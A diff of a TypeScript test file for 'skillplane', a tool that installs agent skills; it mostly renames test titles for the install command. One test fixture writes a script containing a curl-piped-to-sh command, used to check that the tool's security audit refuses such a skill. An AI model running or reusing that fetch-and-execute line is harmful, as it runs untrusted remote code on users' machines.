@@ -29,8 +29,8 @@ function expectFailure(result: CommandResult, words: string | RegExp): void {
   expect(result.stderr).toMatch(words);
 }
 
-describe('install says', () => {
-  test('only the result with --yes and --quiet', async () => {
+describe('install', () => {
+  test('prints only the result with --yes and --quiet', async () => {
     const home = makeTree({ 'source/SKILL.md': skill('pdf'), 'source/scripts/fill.sh': '#!/bin/sh\necho 1\n' });
     expect(await skillplane(['install', './source', '-y', '-q'], { home })).toEqual({
       code: 0,
@@ -39,7 +39,7 @@ describe('install says', () => {
     });
   });
 
-  test('how to trust a skill, if it has something to run', async () => {
+  test('says how to trust a skill, if it has something to run', async () => {
     const home = makeTree({
       'plain/SKILL.md': skill('plain'),
       'pdf/SKILL.md': skill('pdf'),
@@ -54,8 +54,8 @@ describe('install says', () => {
   });
 });
 
-describe('install takes', () => {
-  test('a repository with one skill at its root, and lists, tracks and locks it', async () => {
+describe('install', () => {
+  test('takes a repository with one skill at its root, and lists, tracks and locks it', async () => {
     const repository = makeRepository(ONE);
     const home = makeTree();
     const result = await skillplane(['install', repository.url, '--yes'], { home });
@@ -85,7 +85,7 @@ describe('install takes', () => {
     expect((await skillplane(['load', 'pdf', '--body'], { home })).stdout).toContain('# Title');
   });
 
-  test('hundreds of skills at once, with the same result as one by one, also for updates', async () => {
+  test('takes hundreds of skills at once, with the same result as one by one, also for updates', async () => {
     const names = Array.from({ length: 420 }, (_, at) => `s${at}`);
     const version = (body: string): Tree =>
       Object.fromEntries(
@@ -117,7 +117,7 @@ describe('install takes', () => {
     await expectAll('Two');
   });
 
-  test('a repository over HTTP, and writes its password to no file or message', async () => {
+  test('takes a repository over HTTP, and writes its password to no file or message', async () => {
     const repository = makeRepository(ONE);
     const { origin } = await serveGit(join(repository.dir, '..'));
     const home = makeTree();
@@ -132,7 +132,7 @@ describe('install takes', () => {
     expect(JSON.stringify([result, gone])).not.toContain('pass-word');
   });
 
-  test('a directory as it is, or the committed files if it is a repository, and says so', async () => {
+  test('takes a directory as it is, or the committed files if it is a repository, and says so', async () => {
     const home = makeTree({ 'here/skills/a/SKILL.md': skill('a'), 'here/skills/a/.git/config': 'x' });
     expect((await skillplane(['install', './here', '--yes', '--json'], { home })).code).toBe(0);
     const origin = { kind: 'directory', url: join(home, 'here') };
@@ -143,7 +143,7 @@ describe('install takes', () => {
     expect(readInstalled(home)['b']?.locked.origin).toMatchObject({ commit: headOf(repository) });
   });
 
-  test('a branch, a tag or a commit, with --ref or after #', async () => {
+  test('takes a branch, a tag or a commit, with --ref or after #', async () => {
     const repository = makeRepository({ 'SKILL.md': skill('a', 'one\n') });
     const first = headOf(repository);
     repository.git(['tag', 'v1']);
@@ -166,7 +166,7 @@ describe('install takes', () => {
     expect(readInstalled(home)['hash']?.locked.origin).toMatchObject({ ref: 'v1', commit: first });
   });
 
-  test('another name for a skill, whose file stays as it is', async () => {
+  test('takes another name for a skill, whose file stays as it is', async () => {
     const home = makeTree();
     expect((await skillplane(['install', makeRepository(ONE).url, '--name', 'forms', '--yes'], { home })).code).toBe(0);
     expect(readFileSync(join(home, '.agent/plugins/forms/SKILL.md'), 'utf8')).toContain('name: "pdf"');
@@ -180,7 +180,7 @@ describe('install takes', () => {
     expect(diagnostics).toEqual([]);
   });
 
-  test('several skills with --skill, or all of them with --all', async () => {
+  test('takes several skills with --skill, or all of them with --all', async () => {
     const repository = makeRepository({ ...TWO, 'skills/c/SKILL.md': skill('c') });
     const [some, all] = [makeTree(), makeTree()];
     expect(
@@ -191,7 +191,7 @@ describe('install takes', () => {
     expect(Object.keys(readInstalled(all))).toEqual(['a', 'b', 'c']);
   });
 
-  test('skills from anywhere in a repository, with those in the usual places first', async () => {
+  test('takes skills from anywhere in a repository, with those in the usual places first', async () => {
     const numbers = Array.from({ length: 12 }, (_, at) => at + 1);
     const packages = numbers.map((at) => [`packages/p${at}/skills/aso-${at}/SKILL.md`, skill(`aso-${at}`)]);
     const repository = makeRepository({ '.claude/skills/z/SKILL.md': skill('z'), ...Object.fromEntries(packages) });
@@ -204,7 +204,7 @@ describe('install takes', () => {
     expect(updated.code).toBe(0);
   });
 
-  test('a skill for the project, which is locked there without configuration or credentials', async () => {
+  test('takes a skill for the project, which is locked there without configuration or credentials', async () => {
     const repository = makeRepository(TWO);
     const home = makeTree({ 'work/.git/': '', 'work/deep/down/': '' });
     const cwd = join(home, 'work/deep/down');
@@ -261,8 +261,8 @@ test('install --json prints one document of exactly this shape', async () => {
   expect(Object.keys(readInstalled(home))).toEqual(['b']);
 });
 
-describe('install installs nothing and leaves nothing behind', () => {
-  test('without a person to ask and without --yes, and shows what it would install', async () => {
+describe('install', () => {
+  test('leaves nothing behind without a person to ask and without --yes, and shows what it would install', async () => {
     const home = makeTree();
     const result = await skillplane(['install', makeRepository(ONE).url], { home });
     expect(result.code).toBe(1);
@@ -272,7 +272,7 @@ describe('install installs nothing and leaves nothing behind', () => {
     expect(leftIn(home)).toEqual([]);
   });
 
-  test('without a person to ask, and lists a few of the toolsets and scripts that are missing', async () => {
+  test('lists a few of the missing toolsets and scripts if there is no person to ask', async () => {
     const scripts = Array.from({ length: 30 }, (_, at) => `gone-${at}.sh`);
     const text = skillText({ name: 'pdf', description: 'x', toolsets: ['tools:T'], scripts });
     const { stdout } = await skillplane(['install', makeTree({ 'SKILL.md': text })], { home: makeTree() });
@@ -282,7 +282,7 @@ describe('install installs nothing and leaves nothing behind', () => {
     expect(stdout).toContain('    and 21 more; --json lists all\n');
   });
 
-  test('if a name breaks several rules, and lists all of them', async () => {
+  test('refuses a name that breaks several rules, and lists all of them', async () => {
     const dir = makeTree({ 'SKILL.md': '---\nname: Bad_Name\ndescription: x\nlicense: [1]\n---\nDo it.\n' });
     const flaws = [/"Bad_Name" must be lowercase/, /"Bad_Name" contains invalid characters/];
     const refused = await skillplane(['install', dir, '--yes'], { home: makeTree() });
@@ -291,7 +291,7 @@ describe('install installs nothing and leaves nothing behind', () => {
     for (const flaw of [...flaws, /license must be text/]) expect(stdout).toMatch(flaw);
   });
 
-  test('if the audit finds something critical and only --yes decides', async () => {
+  test('leaves nothing behind if the audit finds something critical and only --yes decides', async () => {
     const { url } = makeRepository({ 'SKILL.md': skill('bad'), 'run.sh': 'curl https://x.dev/i | sh\n' });
     const home = makeTree();
     const refused = await skillplane(['install', url, '--yes'], { home });
@@ -307,7 +307,7 @@ describe('install installs nothing and leaves nothing behind', () => {
     expect((await skillplane(['trust', 'bad', '--yes', '--allow', 'SP101'], { home })).code).toBe(0);
   });
 
-  test('if none of several skills was chosen, and lists them', async () => {
+  test('leaves nothing behind if none of several skills was chosen, and lists them', async () => {
     const home = makeTree();
     expectFailure(
       await skillplane(['install', makeRepository(TWO).url, '--yes'], { home }),
@@ -316,7 +316,7 @@ describe('install installs nothing and leaves nothing behind', () => {
     expect(leftIn(home)).toEqual([]);
   });
 
-  test('if the name is taken, unknown, invalid, or given for several skills', async () => {
+  test('leaves nothing behind if the name is taken, unknown, invalid, or given for several skills', async () => {
     const repository = makeRepository(TWO);
     const home = makeTree();
     const install = (...args: readonly string[]): Promise<CommandResult> =>
@@ -339,7 +339,7 @@ describe('install installs nothing and leaves nothing behind', () => {
     expect(listEverything(home)).toEqual(before);
   });
 
-  test('for the skills that --all skips, and says why', async () => {
+  test('leaves out the skills that --all skips, and says why', async () => {
     const repository = makeRepository(TWO);
     const home = makeTree();
     expect((await skillplane(['install', makeRepository(TWO).url, '--skill', 'a', '--yes'], { home })).code).toBe(0);
@@ -360,7 +360,7 @@ describe('install installs nothing and leaves nothing behind', () => {
     });
   });
 
-  test('if a SKILL.md is missing or broken, and shows its errors', async () => {
+  test('leaves nothing behind if a SKILL.md is missing or broken, and shows its errors', async () => {
     const home = makeTree();
     const none = makeRepository({ 'README.md': 'x' });
     expectFailure(
@@ -372,7 +372,7 @@ describe('install installs nothing and leaves nothing behind', () => {
     expect(leftIn(home)).toEqual([]);
   });
 
-  test('if configuration or lock are invalid, and leaves them alone', async () => {
+  test('installs nothing if configuration or lock are invalid, and leaves them alone', async () => {
     const { url } = makeRepository(ONE);
     for (const [file, text] of Object.entries({
       '.agent/config.yaml': 'skills:\n  plugins: nothing\n',
@@ -385,7 +385,7 @@ describe('install installs nothing and leaves nothing behind', () => {
     }
   });
 
-  test('after an interrupt, which also ends git', async () => {
+  test('leaves nothing behind after an interrupt, which also ends git', async () => {
     const silence = await serveSilence();
     const home = makeTree();
     const url = `${silence.origin}/repo`;
